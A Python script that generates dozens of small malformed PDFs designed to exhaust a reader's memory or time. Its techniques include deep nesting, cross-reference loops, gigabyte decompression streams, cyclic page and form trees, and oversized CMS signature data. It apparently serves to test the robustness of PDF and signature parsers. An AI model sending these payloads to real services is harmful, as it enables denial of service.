"""Makes small files that cost a careless reader far more than their size.

usage: bombs.py FOLDER [NAME…]
Writes FOLDER/NAME.pdf for every bomb, or for those named; without names it prints them all.
"""

import hashlib
import pathlib
import sys
import zlib

BOMBS = {}


def bomb(make):
    BOMBS[make.__name__.replace("_", "-")] = make
    return make


def dictionary(stream, entries=""):
    return f"<<{entries}/Length {len(stream)}>>stream\n".encode() + stream + b"\nendstream"


def obj(number, body):
    return f"{number} 0 obj\n".encode() + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"


CATALOG = "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/SigFlags 3>>%s>>"
BASE = {
    1: CATALOG % "",
    2: "<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 200 100]>>",
    3: "<</Type/Page/Parent 2 0 R/Resources<<>>/Annots[4 0 R]>>",
    4: "<</Type/Annot/Subtype/Widget/FT/Sig/T(S)/V 5 0 R/Rect[0 0 0 0]/P 3 0 R>>",
    5: "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 1 2 3]/Contents<3000>>>",
}


def table(offsets, first=0):
    rows = b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return b"xref\n%d %d\n" % (first, len(offsets)) + rows


def file(objects, trailer="", tail=b""):
    """A whole file of these objects, with a classic table."""
    body, at = b"%PDF-1.7\n", {}
    parts = [body]
    size = len(body)
    for number in sorted(objects):
        at[number] = size
        part = obj(number, objects[number])
        parts.append(part)
        size += len(part)
    xref = b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, at[n]) for n in sorted(at))
    end = f"trailer\n<</Size {max(at) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{size}\n%%EOF\n".encode()
    return b"".join(parts) + xref + end + tail


def xref_stream_file(objects, stream, entries, extra=b""):
    body = b"%PDF-1.7\n" + b"".join(obj(n, objects[n]) for n in sorted(objects)) + extra
    start = len(body)
    return body + obj(900, dictionary(stream, "/Type/XRef/Root 1 0 R" + entries)) + b"startxref\n%d\n%%%%EOF\n" % start


# --- syntax ---


@bomb
def nested_arrays():
    return file(BASE | {6: "[" * 2_000_000})


@bomb
def nested_dictionaries():
    return file(BASE | {1: CATALOG % ("/A" + "<</A" * 500_000)})


@bomb
def nested_trailer():
    return file(BASE, "/X" + "[" * 1_000_000)


@bomb
def half_objects():
    return b"%PDF-1.7\n" + b"1 0 obj<</A[(" * 300_000


@bomb
def half_strays():
    good = file(BASE)
    return good + b"7 0 obj<</A[" * 300_000 + b"\n" + good[9:]


@bomb
def huge_array():
    return file(BASE | {2: "<</Type/Pages/Kids[3 0 R]/Count 1/X[" + "0 " * 12_000_000 + "]>>"})


@bomb
def many_little_arrays():
    return file(BASE | {2: "<</Type/Pages/Kids[3 0 R]/Count 1/X[" + "[0]" * 8_000_000 + "]>>"})


@bomb
def huge_dictionary():
    return file(BASE | {2: "<</Type/Pages/Kids[3 0 R]/Count 1/X<<" + "".join(f"/{n:x} 0" for n in range(2_000_000)) + ">>>>"})


@bomb
def long_string():
    return file(BASE | {6: "(" + "(" * 10_000_000 + ")" * 10_000_000 + ")"})


# --- cross-references ---


@bomb
def million_objects():
    head = b"%PDF-1.7\n" + b"".join(obj(n, BASE[n]) for n in BASE)
    offsets = [head.index(b"\n%d 0 obj" % n) + 1 for n in BASE]
    rows = table([9] + offsets + [offsets[4]] * 1_000_000)
    return head + rows + b"trailer\n<</Size 1000006/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(head)


@bomb
def xref_stream_of_eight_million():
    rows = zlib.compress(b"\1\0\0\x09\0" * 8_000_000, 9)
    return xref_stream_file(BASE, rows, "/Size 8000000/W[1 3 1]/Filter/FlateDecode")


@bomb
def xref_stream_of_free_entries():
    return xref_stream_file(BASE, zlib.compress(b"\0" * 8_388_600, 9), "/Size 8388600/W[1 0 0]/Filter/FlateDecode")


@bomb
def xref_stream_of_nothing():
    return xref_stream_file(BASE, b"", "/Size 8388600/W[0 0 0]")


@bomb
def prev_to_itself():
    good = file(BASE)
    start = good.rindex(b"xref\n0 1")
    return good.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


@bomb
def prev_chain():
    parts, size, before = [file(BASE)], 0, 0
    size = len(parts[0])
    before = parts[0].rindex(b"xref\n0 1")
    for _ in range(100_000):
        part = b"xref\n0 0\ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, size)
        before = size
        parts.append(part)
        size += len(part)
    return b"".join(parts)


@bomb
def revisions_that_change_things():
    good = file(BASE)
    parts, size, before = [good], len(good), good.rindex(b"xref\n0 1")
    for turn in range(4000):
        objects = obj(3, BASE[3].replace("/Resources", f"/Turn {turn}/Resources"))
        part = objects + b"xref\n3 1\n%010d 00000 n \n" % size
        part += b"trailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, size + len(objects))
        before = size + len(objects)
        parts.append(part)
        size += len(part)
    return b"".join(parts)


@bomb
def hybrid_loop():
    good = file(BASE)
    start = good.rindex(b"xref\n0 1")
    return good.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/XRefStm %d/Prev %d>>" % (start, start))


@bomb
def end_marks():
    return b"%PDF-1.7\n" + b"%%EOF\n" * 2_000_000


@bomb
def length_chain():
    objects = BASE | {n: dictionary(b"x", "").replace(b"/Length 1", b"/Length %d 0 R" % (n + 1)) for n in range(6, 30_000)}
    return file(objects)


# --- streams ---


def object_stream(decoded, entries, count=1, first=10):
    return dictionary(decoded, f"/Type/ObjStm/N {count}/First {first}{entries}")


def with_object_streams(streams):
    """A file whose catalog is in the first object stream, and every other one holds an object that is asked for."""
    body, offsets = b"%PDF-1.7\n", {}
    for number in (2, 3, 4, 5):
        offsets[number] = len(body)
        body += obj(number, BASE[number])
    for index, stream in enumerate(streams):
        offsets[1000 + index] = len(body)
        body += obj(1000 + index, stream)
    rows = {n: (1, o, 0) for n, o in offsets.items()}
    rows[1] = (2, 1000, 0)
    for index in range(1, len(streams)):
        rows[100_000 + index] = (2, 1000 + index, 0)
    packed = b"".join(bytes([k]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for _, (k, a, b) in sorted(rows.items()))
    index = " ".join(f"{n} 1" for n in sorted(rows))
    start = len(body)
    xref = dictionary(packed, f"/Type/XRef/Root 1 0 R/Size 200000/W[1 4 2]/Index[{index}]")
    return body + obj(900, xref) + b"startxref\n%d\n%%%%EOF\n" % start


def inflated(number, size):
    head = b"%-10d" % number
    return zlib.compress(head[:8] + b"0 " + CATALOG.replace("%s", "").encode() + b" " * size, 9)


@bomb
def object_stream_of_a_gigabyte():
    return with_object_streams([object_stream(inflated(1, 1 << 30), "/Filter/FlateDecode")])


@bomb
def many_object_streams():
    one = [object_stream(inflated(1, 10), "/Filter/FlateDecode")]
    rest = [object_stream(inflated(100_000 + n, 60 << 20), "/Filter/FlateDecode") for n in range(1, 2)]
    more = [rest[0]] * 200
    return with_object_streams(one + more)


@bomb
def deflate_of_deflate():
    data = inflated(1, 1 << 30)
    for _ in range(6):
        data = zlib.compress(data, 9)
    return with_object_streams([object_stream(data, "/Filter[" + "/FlateDecode" * 7 + "]")])


@bomb
def predictor_of_wide_rows():
    wide = "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 16777216/Colors 32/BitsPerComponent 16>>"
    return with_object_streams([object_stream(zlib.compress(b"\2" + b"1 0 " + CATALOG.encode()), wide)] * 50)


@bomb
def predictor_of_narrow_rows():
    narrow = "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1>>"
    return with_object_streams([object_stream(zlib.compress(b"\0 " * (30 << 20), 9), narrow)])


@bomb
def lzw():
    bits, width = [], 9
    code, count = 258, 0
    bits.append((256, 9))
    bits.append((32, 9))
    for n in range(258, 4094):
        width = 9 if n + 1 < 512 else 10 if n + 1 < 1024 else 11 if n + 1 < 2048 else 12
        bits.append((n, width))
    value = 0
    length = 0
    for code, width in bits:
        value = value << width | code
        length += width
    block = (value << (-length % 8)).to_bytes((length + 7) // 8, "big")
    # One block decodes to seven megabytes; clear codes would have to be aligned, so blocks follow as padding only.
    return with_object_streams([object_stream(block, "/Filter/LZWDecode")] * 100)


@bomb
def run_lengths():
    data = b"1 0 " + b"\x81 " * (20 << 20)
    return with_object_streams([object_stream(zlib.compress(data, 9), "/Filter[/FlateDecode/RunLengthDecode]")])


@bomb
def overlapping_streams():
    objects = b"".join(b"%d 0 obj<</Length 0>>stream\n" % n for n in range(10, 60_000))
    body = b"%PDF-1.7\n" + b"".join(obj(n, BASE[n]) for n in BASE) + objects + b"endstream endobj\n"
    numbers = list(BASE) + list(range(10, 60_000))
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, body.index(b"%d 0 obj" % n)) for n in numbers[:5])
    at = body.index(b"10 0 obj<</Length")
    listed = []
    for n in range(10, 60_000):
        listed.append(b"%d 1\n%010d 00000 n \n" % (n, at))
        at += len(b"%d 0 obj<</Length 0>>stream\n" % n)
    return body + b"xref\n" + rows + b"".join(listed) + b"trailer\n<</Size 60000/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


# --- structure ---


@bomb
def page_tree_circle():
    return file(BASE | {2: "<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R/Count 3>>"})


@bomb
def page_many_times():
    return file(BASE | {2: "<</Type/Pages/Count 1/Kids[" + "3 0 R " * 1_000_000 + "]>>"})


@bomb
def pages_deep():
    objects = BASE | {n: f"<</Type/Pages/Kids[{n + 1} 0 R]/Count 1>>" for n in range(10, 100_000)}
    return file(objects | {2: "<</Type/Pages/Kids[10 0 R 3 0 R]/Count 1>>"})


@bomb
def form_circle():
    return file(BASE | {4: "<</T(a)/Kids[4 0 R 6 0 R]/Parent 6 0 R/FT/Sig/V 5 0 R>>", 6: "<</T(b)/Kids[4 0 R 6 0 R]/Parent 4 0 R>>"})


def fields(count):
    objects = {n: f"<</T(f{n})/FT/Tx/V(x)/Type/Annot/Subtype/Widget/Rect[0 0 1 1]>>" for n in range(10, 10 + count)}
    listed = " ".join(f"{n} 0 R" for n in objects)
    return objects, listed


@bomb
def many_fields():
    objects, listed = fields(100_000)
    head = "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R " + listed + "]>>>>"
    return file(BASE | objects | {1: head, 3: "<</Type/Page/Parent 2 0 R/Annots[4 0 R " + listed + "]>>"})


@bomb
def fields_of_fields():
    objects = {n: f"<</T(f)/Kids[{n + 1} 0 R {n + 1} 0 R]>>" for n in range(10, 60)}
    return file(BASE | objects | {4: "<</T(a)/Kids[10 0 R 10 0 R]>>"})


def signed(value, extra=None, later=b"", catalog=""):
    """A file whose one signature has sound ranges, with `value` in it."""
    room = len(value) * 2
    marker = "<" + "0" * room + ">"
    signature = BASE[5].replace("<3000>", marker).replace("[0 1 2 3]", "[0 0000000000 0000000000 0000000000]")
    data = file(BASE | (extra or {}) | {1: CATALOG % catalog, 5: signature})
    low = data.index(marker.encode())
    high = low + len(marker)
    given = b"[0 %010d %010d %010d]" % (low, high, len(data) - high)
    data = data.replace(b"[0 0000000000 0000000000 0000000000]", given)
    return data[:low] + b"<" + value.hex().encode() + b">" + data[high:] + later


def tlv(tag, body):
    size = len(body)
    if size < 0x80:
        return bytes([tag, size]) + body
    octets = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(octets)]) + octets + body


OID = lambda hexadecimal: tlv(6, bytes.fromhex(hexadecimal))
SHA256 = tlv(0x30, OID("608648016503040201"))
RSA = tlv(0x30, OID("2a864886f70d01010b") + b"\5\0")
NAME = tlv(0x30, tlv(0x31, tlv(0x30, OID("550403") + tlv(0x0C, b"A"))))


def signer_info(signed_attributes=b"", unsigned_attributes=b""):
    identifier = tlv(0x30, NAME + b"\2\1\1")
    return tlv(0x30, b"\2\1\1" + identifier + SHA256 + signed_attributes + RSA + tlv(4, bytes(256)) + unsigned_attributes)


def signed_data(certificates=b"", infos=None):
    inner = b"\2\1\1" + tlv(0x31, SHA256) + tlv(0x30, OID("2a864886f70d010701")) + tlv(0xA0, certificates)
    return tlv(0x30, OID("2a864886f70d010702") + tlv(0xA0, tlv(0x30, inner + tlv(0x31, infos or signer_info()))))


def certificate(serial):
    validity = tlv(0x30, tlv(0x17, b"260101000000Z") + tlv(0x17, b"360101000000Z"))
    key = tlv(0x30, tlv(0x30, OID("2a8648ce3d0201") + OID("2a8648ce3d030107")) + tlv(3, b"\0\4" + bytes.fromhex(
        "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
        "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5")))
    algorithm = tlv(0x30, OID("2a8648ce3d040302"))
    number = tlv(2, serial.to_bytes(4, "big"))
    tbs = tlv(0x30, tlv(0xA0, b"\2\1\2") + number + algorithm + NAME + validity + NAME + key)
    return tlv(0x30, tbs + algorithm + tlv(3, b"\0" + tlv(0x30, b"\2\1\1\2\1\1")))


@bomb
def cms_of_many_certificates():
    return signed(signed_data(b"".join(certificate(1 + n) for n in range(100_000))))


@bomb
def cms_of_one_serial():
    return signed(signed_data(certificate(1) * 50_000))


@bomb
def cms_of_many_attributes():
    attribute = lambda n: tlv(0x30, tlv(6, b"\x2a\x03" + bytes([0x80 | n >> 14 & 0x7F, 0x80 | n >> 7 & 0x7F, n & 0x7F])) + tlv(0x31, b"\5\0"))
    many = b"".join(attribute(n) for n in range(100_000))
    return signed(signed_data(certificate(1), signer_info(tlv(0xA0, many), tlv(0xA1, many))))


@bomb
def cms_of_many_signers():
    return signed(signed_data(certificate(1), signer_info() * 20_000))


@bomb
def cms_of_many_timestamps():
    token = signed_data(certificate(1))
    stamp = tlv(0x30, OID("2a864886f70d010910020e") + tlv(0x31, token * 5_000))
    return signed(signed_data(certificate(1), signer_info(b"", tlv(0xA1, stamp))))


@bomb
def cms_deep():
    value = b"\5\0"
    for _ in range(3000):
        value = tlv(0x30, value)
    return signed(signed_data(value))


@bomb
def cms_deep_indefinite():
    return signed(b"\x30\x80" * 100_000 + b"\0\0" * 100_000)


@bomb
def security_store_of_many():
    objects = {100 + n: dictionary(certificate(n)) for n in range(100_000)}
    listed = " ".join(f"{n} 0 R" for n in objects)
    return signed(signed_data(certificate(1)), objects, catalog=f"/DSS<</Certs[{listed}]/CRLs[{listed}]/OCSPs[{listed}]>>")


@bomb
def security_store_of_bombs():
    packed = zlib.compress(bytes(15 << 20), 9)
    objects = {100 + n: dictionary(packed, "/Filter/FlateDecode") for n in range(300)}
    listed = " ".join(f"{n} 0 R" for n in objects)
    return signed(signed_data(certificate(1)), objects, catalog=f"/DSS<</Certs[{listed}]/CRLs[{listed}]/OCSPs[{listed}]>>")


@bomb
def giant_ranges():
    big = "9223372036854775807"
    kinds = [f"0 {big} {big} {big}", f"0 1 {big} 1", f"-{big} 1 2 3", f"0 99999999999999999999999 2 3", "0 1 2 " + big, "0 1e300 2 3"]
    objects = {}
    for index, kind in enumerate(kinds * 100):
        objects[100 + index] = BASE[5].replace("0 1 2 3", kind)
    return file(BASE | objects)


@bomb
def many_signatures():
    """Each with ranges of its own that are sound, so that each asks for all before and behind it to be digested."""
    value = signed_data(b"").hex()
    count, text, places = 20_000, [], []
    size = len(b"%PDF-1.7\n")
    head = "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 %010d %010d %010d]/Contents<"
    blank = head % (0, 0, 0)
    offsets = []
    parts = [b"%PDF-1.7\n"]
    for n in (1, 2, 3):
        part = obj(n, BASE[n])
        offsets.append((n, size))
        parts.append(part)
        size += len(part)
    whole = size + sum(len(f"{n} 0 obj\n") + len(blank) + len(value) + len(">>>\nendobj\n") for n in range(10, 10 + count))
    for n in range(10, 10 + count):
        offsets.append((n, size))
        low = size + len(f"{n} 0 obj\n") + len(blank) - 1
        high = low + len(value) + 2
        part = f"{n} 0 obj\n{head % (low, high, whole - high)}{value}>>>\nendobj\n".encode()
        parts.append(part)
        size += len(part)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, o) for n, o in offsets)
    return b"".join(parts) + b"xref\n" + rows + b"trailer\n<</Size 30000/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % size


def later_revision(base, objects):
    size, parts, rows = len(base), [base], []
    for number, body in sorted(objects.items()):
        rows.append(b"%d 1\n%010d 00000 n \n" % (number, size))
        parts.append(obj(number, body))
        size += len(parts[-1])
    before = base.rindex(b"startxref\n") + 10
    prev = int(base[before : base.index(b"\n", before)])
    last = b"xref\n" + b"".join(rows) + b"trailer\n<</Size 200000/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (prev, size)
    return b"".join(parts) + last


@bomb
def form_filled_in_by_the_thousand():
    objects, listed = fields(30_000)
    head = {1: "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R " + listed + "]>>>>"}
    page = {3: "<</Type/Page/Parent 2 0 R/Annots[4 0 R " + listed + "]>>"}
    value = signed_data(certificate(1))
    room = len(value) * 2
    marker = "<" + "0" * room + ">"
    signature = BASE[5].replace("<3000>", marker).replace("[0 1 2 3]", "[0 0000000000 0000000000 0000000000]")
    data = file(BASE | objects | head | page | {5: signature})
    low = data.index(marker.encode())
    high = low + len(marker)
    data = data.replace(b"[0 0000000000 0000000000 0000000000]", b"[0 %010d %010d %010d]" % (low, high, len(data) - high))
    data = data[:low] + b"<" + value.hex().encode() + b">" + data[high:]
    return later_revision(data, {n: body.replace("/V(x)", "/V(changed)") for n, body in objects.items()})


@bomb
def metadata_of_a_gigabyte():
    stream = dictionary(zlib.compress(bytes(1 << 30), 9), "/Type/Metadata/Subtype/XML/Filter/FlateDecode")
    return signed(signed_data(certificate(1)), {6: stream}, catalog="/Metadata 6 0 R")


def main():
    if len(sys.argv) < 2:
        print("\n".join(BOMBS))
        return
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name in sys.argv[2:] or BOMBS:
        (folder / f"{name}.pdf").write_bytes(BOMBS[name]())


main()
